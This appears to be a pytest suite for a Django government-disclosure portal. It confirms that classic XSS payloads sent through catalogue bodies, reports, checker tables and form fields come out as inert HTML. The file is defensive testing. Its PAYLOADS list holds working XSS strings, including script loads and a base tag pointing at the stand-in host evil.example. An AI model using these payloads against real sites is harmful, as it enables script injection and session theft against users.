"""Classic XSS payloads through every path that renders user input as HTML, asserting the page that
comes out is inert: no script of ours but `/static/` files, no event-handler attribute, no
`javascript:` URL, no frame, object, embed or base element, no injected style.

The paths: catalogue bodies and column introductions (nh3, rendered `|safe` on the portal and in the
workbench), the annual report's narrative (the HTML renderer escapes, rendered `mark_safe` on the
portal and as the workbench's HTML download), the checker's flagged tables (`|safe`), and plain
fields Django escapes (application fields, the search box, the elderly-mode redirect).
"""

from __future__ import annotations

import datetime as dt
import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<a href=" javascript:alert(1)">点我</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><button>提交</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<style>*{background:url(//evil.example/x)}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</textarea><script>alert(1)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}",
)
ALL = "\n".join(PAYLOADS)
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
}
FORBIDDEN_TAGS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "base",
    "applet",
    "math",
    "noscript",
}
_SCHEME_JUNK = re.compile(r"[\x00-\x20]")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            self.in_script = True
            if not values.get("src", "").startswith("/static/"):
                self.problems.append(f"<script src={values.get('src')!r}>")
        if tag == "style":
            self.in_style = True
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES:
                scheme = _SCHEME_JUNK.sub("", html.unescape(value)).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.I):
                self.problems.append(f"<{tag} style={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in {"script", "style"}:
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False
        if tag == "style":
            self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append(f"inline script {data[:40]!r}")
        if self.in_style and any(bad in data for bad in ("evil.example", "javascript:", "<")):
            self.problems.append(f"injected style {data[:40]!r}")


def assert_inert(page: str, where: str) -> None:
    inspector = _Inspector()
    inspector.feed(page)
    inspector.close()
    assert inspector.problems == [], (where, inspector.problems)


def test_the_inspector_catches_each_payload_unescaped():
    """The check can fail: every payload but the template one is caught when left raw."""
    for payload in PAYLOADS:
        inspector = _Inspector()
        inspector.feed(f"<div>{payload}</div>")
        inspector.close()
        if "{{" in payload:
            continue
        assert inspector.problems, payload


@pytest.fixture
def songcun(district: dict[str, Any]) -> Any:
    from gongkai.publishing.services import columns_ensure_default

    agency = district["songcun"]
    columns_ensure_default(actor=None, agency=agency)
    return agency


def test_catalogue_body_is_sanitised_everywhere_it_is_shown(login, songcun, user_named):
    from gongkai.publishing.models import Column, Review
    from gongkai.publishing.services import item_create, item_submit_for_review, review_decide

    clerk = user_named("songcun_clerk")
    item = item_create(
        actor=clerk,
        agency=songcun,
        column=Column.objects.get(agency=songcun, slug="gsgg"),
        title="测试<script>alert(1)</script>标题",
        summary="<img src=x onerror=alert(1)>",
        formed_on=dt.date(2026, 11, 20),
        body="<p>正文</p>" + ALL,
    )
    assert "<script" not in item.body.lower() and "onerror" not in item.body.lower()
    assert "<p>正文</p>" in item.body  # harmless markup survives
    assert_inert(login("songcun_clerk").get(f"/workbench/items/{item.pk}/").content.decode(), "wb")
    review = item_submit_for_review(actor=clerk, item=item)
    page = login("songcun_head").get(f"/workbench/reviews/{review.pk}/").content.decode()
    assert_inert(page, "review page")
    for username in ("songcun_head", "songcun_secrecy", "songcun_leader"):
        review = Review.objects.get(pk=review.pk)
        review_decide(actor=user_named(username), review=review, decision="approve")
    from django.test import Client

    public = Client()
    for path in (
        f"/agency/songcun/info/{item.pk}/",
        "/agency/songcun/gk/gsgg/",
        "/agency/songcun/gk/gsgg/rss/",
        "/search/?q=测试",
    ):
        response = public.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)


def test_item_edit_sanitises_the_new_body(songcun, user_named):
    from gongkai.publishing.models import Column
    from gongkai.publishing.services import item_create, item_update

    clerk = user_named("songcun_clerk")
    item = item_create(
        actor=clerk,
        agency=songcun,
        column=Column.objects.get(agency=songcun, slug="gsgg"),
        title="测试",
        formed_on=dt.date(2026, 11, 20),
    )
    item = item_update(actor=clerk, item=item, body=ALL)
    assert_inert(item.body, "item_update")


def test_column_introductions_are_sanitised(client, songcun, user_named):
    from gongkai.publishing.models import Column
    from gongkai.publishing.services import column_set_intro

    admin = user_named("songcun_admin")
    for slug in ("gsgg", "zfxxgkzn"):
        column = Column.objects.filter(agency=songcun, slug=slug).first()
        if column is None:
            continue
        column_set_intro(actor=admin, column=column, intro="<p>说明</p>" + ALL)
    for path in ("/agency/songcun/gk/gsgg/", "/agency/songcun/gk/guide/"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)


def test_report_narrative_is_escaped_by_the_renderer(login, district, user_named):
    from gongkai.agencies.models import Agency
    from gongkai.reports.renderers.html import render_article, render_document
    from gongkai.reports.services import report_draft_get_or_create, report_save_draft
    from gongkai.reports.value import AnnualReport

    record, _ = report_draft_get_or_create(
        actor=user_named("songcun_clerk"), agency=district["songcun"], year=2025
    )
    report_save_draft(
        actor=user_named("songcun_clerk"),
        record=record,
        sections=dict.fromkeys(("0", "1", "5", "6"), ALL),
    )
    response = login("songcun_clerk").get(
        "/workbench/agency/songcun/reports/2025/download/draft/html/"
    )
    assert response.status_code == 200
    assert_inert(response.content.decode(), "workbench HTML download")
    page = login("songcun_clerk").get("/workbench/agency/songcun/reports/2025/").content.decode()
    assert_inert(page, "report edit page")
    # The renderer the portal marks safe, with an agency whose very name is a payload.
    from gongkai.reports.selectors import record_value

    stored = record_value(record)
    hostile = AnnualReport(
        format=stored.format,
        agency=Agency(name="<script>alert(1)</script>高村镇", short_name="x", slug="x"),
        year=2025,
        published_on=None,
        sections=dict.fromkeys(("0", "1", "2", "3", "4", "5", "6"), ALL),
        table2=stored.table2,
        table3=stored.table3,
        table4=stored.table4,
    )
    assert_inert(render_article(hostile), "render_article")
    assert_inert(render_document(hostile), "render_document")


def test_checker_tables_and_messages_are_inert(login, district):
    text = "威海市文登区<script>alert(1)</script>2023年政府信息公开工作年度报告\n" + ALL
    response = login("songcun_clerk").post("/workbench/reports/checker/", {"text": text})
    assert response.status_code == 200
    assert_inert(response.content.decode(), "checker")


def test_plain_fields_are_escaped(client, login, district, settings):
    from gongkai.applications.models import Application
    from tests.portal.test_applications import form_data

    settings.GONGKAI_APPLY_PER_HOUR = 1000
    response = client.post(
        "/agency/songcun/apply/",
        form_data(
            applicant_name="<img src=x onerror=alert(1)>",
            description="本镇低保资金发放情况" + ALL,
            address="<svg onload=alert(1)>",
        ),
    )
    assert response.status_code == 302
    application = Application.objects.get()
    staff = login("songcun_clerk")
    for path in ("/workbench/applications/", f"/workbench/applications/{application.pk}/"):
        page = staff.get(path)
        assert page.status_code == 200, path
        assert_inert(page.content.decode(), path)
    for path, query in (
        ("/search/", {"q": PAYLOADS[0]}),
        ("/search/", {"q": PAYLOADS[9], "agency": PAYLOADS[2]}),
        ("/tools/deadline/", {"received": PAYLOADS[2]}),
    ):
        page = client.get(path, query)
        assert_inert(page.content.decode(), path)
    tracked = client.post("/track/", {"code": PAYLOADS[0][:20], "phone": PAYLOADS[2][:20]})
    assert_inert(tracked.content.decode(), "track")
    # The elderly-mode switch never redirects to a script or another site.
    for target in ("javascript:alert(1)", "//evil.example/", "https://evil.example/"):
        switched = client.get("/elderly/", {"on": "1", "next": target})
        assert switched["Location"] == "/", target


# Every place that prints HTML unescaped, reviewed and listed in docs/security.md with the test above
# that covers it. A new `|safe` or `mark_safe(` fails here until it is reviewed and added.
REVIEWED_UNESCAPED = {
    "gongkai/portal/reports.py": 1,
    "gongkai/publishing/search.py": 3,
    "gongkai/portal/templates/portal/publishing/item.html": 1,
    "gongkai/portal/templates/portal/publishing/guide.html": 1,
    "gongkai/portal/templates/portal/publishing/column.html": 1,
    "gongkai/workbench/templates/workbench/checker/index.html": 1,
    "gongkai/workbench/templates/workbench/publishing/review.html": 1,
    "gongkai/workbench/templates/workbench/publishing/item_detail.html": 1,
}


def test_every_unescaped_output_has_been_reviewed():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    found: dict[str, int] = {}
    for path in sorted((root / "gongkai").rglob("*")):
        if path.suffix not in {".py", ".html", ".xml", ".txt"} or "static" in path.parts:
            continue
        if path.suffix == ".txt" and path.parent.name == "notices":
            # Plain-text 告知书 bodies (autoescape off on purpose): notices.notice_html escapes
            # every paragraph when it builds the PDF's HTML, and DOCX runs hold text only.
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        count = len(re.findall(r"\|\s*safe\b|mark_safe\(|\{%\s*autoescape\s+off", text))
        if count:
            found[str(path.relative_to(root))] = count
    assert found == REVIEWED_UNESCAPED
